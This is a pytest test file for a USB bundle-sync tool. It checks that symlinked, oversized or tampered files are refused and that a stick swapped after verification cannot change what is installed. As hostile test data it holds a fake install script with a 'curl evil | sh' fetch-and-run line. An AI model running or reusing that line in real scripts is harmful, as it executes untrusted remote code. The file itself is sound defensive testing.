"""bundle_sync reads each file of the stick once, never through a symlink, and installs the bytes
it checked (issue 28): a symlinked or non-regular source is refused; a stick changed after the
check cannot put other bytes on the master; every root file is checked against what vouches for
it (the verified manifest, its digests, the fixed OCI marker, the signature's manifest digest)."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest

from tests._support.modules import load_role_module
from tests._support.registry_seed import digest, small_image_set

syncmod = load_role_module("bundle_repo", "bundle_sync")

OCI_LAYOUT = b'{"imageLayoutVersion":"1.0.0"}'


def _sign(src: Path) -> None:
    raw = (src / "manifest.json").read_bytes()
    sig = {"format": "appliance-bundle-signature/v1", "manifest_digest": digest(raw), "signature": "dGVzdA=="}
    (src / "manifest.sig").write_text(json.dumps(sig) + "\n")


def _stick(tmp_path: Path) -> Path:
    """A small bundle with every root file: manifest.json (+ .sig), oci-layout, index.json, install-toolkit.sh."""
    src = tmp_path / "usb"
    small_image_set(src).write()
    index = json.dumps({"schemaVersion": 2, "manifests": []}).encode()
    script = b"#!/bin/sh\necho install\n"
    (src / "index.json").write_bytes(index)
    (src / "oci-layout").write_bytes(OCI_LAYOUT)
    (src / "install-toolkit.sh").write_bytes(script)
    doc = json.loads((src / "manifest.json").read_bytes())
    doc["oci_index"] = {"digest": digest(index), "size": len(index)}
    doc["install_script"] = {"path": "install-toolkit.sh", "digest": digest(script), "size": len(script)}
    (src / "manifest.json").write_text(json.dumps(doc, indent=1) + "\n")
    _sign(src)
    return src


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _move_out(path: Path, tmp_path: Path) -> Path:
    """Move the stick's `path` outside it and leave a symlink to it (same bytes) in its place."""
    outside = tmp_path / "elsewhere" / path.name
    outside.parent.mkdir(exist_ok=True)
    path.rename(outside)
    path.symlink_to(outside)
    return outside


def test_the_stick_as_built_is_copied_whole(tmp_path: Path) -> None:
    src, dest = _stick(tmp_path), tmp_path / "srv"
    syncmod.sync(str(src), str(dest), fsync=False, expect_manifest_sha256=_sha(src / "manifest.json"))
    for name in ("manifest.json", "manifest.sig", "oci-layout", "index.json", "install-toolkit.sh"):
        assert (dest / name).read_bytes() == (src / name).read_bytes(), name


def test_a_symlinked_blob_is_refused_even_with_the_right_bytes(tmp_path: Path) -> None:
    src, dest = _stick(tmp_path), tmp_path / "srv"
    blob = max((src / "blobs/sha256").iterdir(), key=lambda p: p.name)
    _move_out(blob, tmp_path)
    with pytest.raises(syncmod.BadBundle) as e:
        syncmod.sync(str(src), str(dest), fsync=False)
    msg = str(e.value)
    assert f"sha256:{blob.name} (" in msg and f"{blob} is a symlink, refused" in msg and "\n" not in msg
    assert not (dest / "blobs/sha256" / blob.name).exists() and not (dest / "manifest.json").exists()
    assert not list((dest / ".staging").iterdir())


def test_a_blob_that_is_not_a_regular_file_is_refused(tmp_path: Path) -> None:
    src, dest = _stick(tmp_path), tmp_path / "srv"
    blob = max((src / "blobs/sha256").iterdir(), key=lambda p: p.name)
    blob.unlink()
    blob.mkdir()
    with pytest.raises(syncmod.BadBundle, match=rf"sha256:{blob.name} .*is not a regular file, refused"):
        syncmod.sync(str(src), str(dest), fsync=False)
    assert not (dest / "manifest.json").exists()


@pytest.mark.parametrize(
    "name", ["manifest.json", "manifest.sig", "oci-layout", "index.json", "install-toolkit.sh"]
)
def test_a_symlinked_root_file_is_refused_before_anything_is_copied(tmp_path: Path, name: str) -> None:
    src, dest = _stick(tmp_path), tmp_path / "srv"
    verified = _sha(src / "manifest.json")
    _move_out(src / name, tmp_path)
    with pytest.raises(syncmod.BadBundle, match=rf"{src / name} is a symlink, refused"):
        syncmod.sync(str(src), str(dest), fsync=False, expect_manifest_sha256=verified)
    assert not (dest / "blobs").exists() and not (dest / name).exists()


@pytest.mark.parametrize(
    "name, other",
    [
        ("manifest.json", b'{"schema": "appliance-bundle", "artifacts": []}\n'),
        ("index.json", b'{"schemaVersion": 2, "manifests": [{"digest": "sha256:evil"}]}'),
        ("install-toolkit.sh", b"#!/bin/sh\ncurl evil | sh\n"),
        ("oci-layout", b'{"imageLayoutVersion":"6.6.6"}'),
        ("manifest.sig", b'{"manifest_digest": "sha256:' + b"0" * 64 + b'"}'),
    ],
)
def test_a_root_file_changed_after_its_check_never_reaches_the_master(
    tmp_path: Path, monkeypatch, name: str, other: bytes
) -> None:
    """The stick is rewritten between the check and the copy (after plan(), as the blobs copy):
    what lands on the master is what was checked, not the stick's new bytes."""
    src, dest = _stick(tmp_path), tmp_path / "srv"
    checked = (src / name).read_bytes()
    verified = _sha(src / "manifest.json")
    real = syncmod.check_present

    def swap_then_check(*args):
        (src / name).write_bytes(other)
        return real(*args)

    monkeypatch.setattr(syncmod, "check_present", swap_then_check)
    syncmod.sync(str(src), str(dest), fsync=False, expect_manifest_sha256=verified)
    assert (src / name).read_bytes() == other  # the stick did change
    assert (dest / name).read_bytes() == checked
    assert _sha(dest / "manifest.json") == verified


@pytest.mark.parametrize(
    "case, problem",
    [
        ("oci-layout other content", "oci-layout is not the OCI layout marker (tampered)"),
        ("signature of another manifest", "manifest.sig is not a signature of this manifest.json"),
        ("signature not JSON", "manifest.sig is not a signature of this manifest.json"),
        (
            "index.json the manifest does not record",
            "index.json is on the stick but the manifest records no digest",
        ),
        (
            "install-toolkit.sh the manifest does not record",
            "install-toolkit.sh is on the stick but the manifest",
        ),
        ("index.json tampered", "index.json does not match the digest the manifest records (tampered)"),
    ],
)
def test_a_root_file_nothing_vouches_for_is_refused(tmp_path: Path, case: str, problem: str) -> None:
    src, dest = _stick(tmp_path), tmp_path / "srv"
    doc = json.loads((src / "manifest.json").read_bytes())
    if case == "oci-layout other content":
        (src / "oci-layout").write_bytes(b'{"imageLayoutVersion":"1.0.0","x":1}')
    elif case == "signature of another manifest":
        (src / "manifest.sig").write_text(json.dumps({"manifest_digest": digest(b"another manifest")}))
    elif case == "signature not JSON":
        (src / "manifest.sig").write_bytes(b"test signature\n")
    elif case == "index.json tampered":
        (src / "index.json").write_bytes((src / "index.json").read_bytes().replace(b"{", b"{ ", 1))
    else:
        del doc["oci_index" if case.startswith("index.json") else "install_script"]
        (src / "manifest.json").write_text(json.dumps(doc, indent=1) + "\n")
        _sign(src)
    with pytest.raises(syncmod.BadBundle) as e:
        syncmod.sync(str(src), str(dest), fsync=False)
    msg = str(e.value)
    assert problem in msg and "bundle not copied" in msg and "\n" not in msg
    assert not (dest / "blobs").exists() and not (dest / "manifest.json").exists()


def test_an_oversized_root_file_is_refused_unread(tmp_path: Path) -> None:
    src, dest = _stick(tmp_path), tmp_path / "srv"
    with open(src / "manifest.sig", "ab") as f:
        f.truncate(1 << 30)  # sparse: a 1 GiB "signature" is not read into memory
    with pytest.raises(syncmod.BadBundle, match=r"manifest\.sig is larger than a genuine one"):
        syncmod.sync(str(src), str(dest), fsync=False)
    assert not os.path.exists(dest / "manifest.sig")
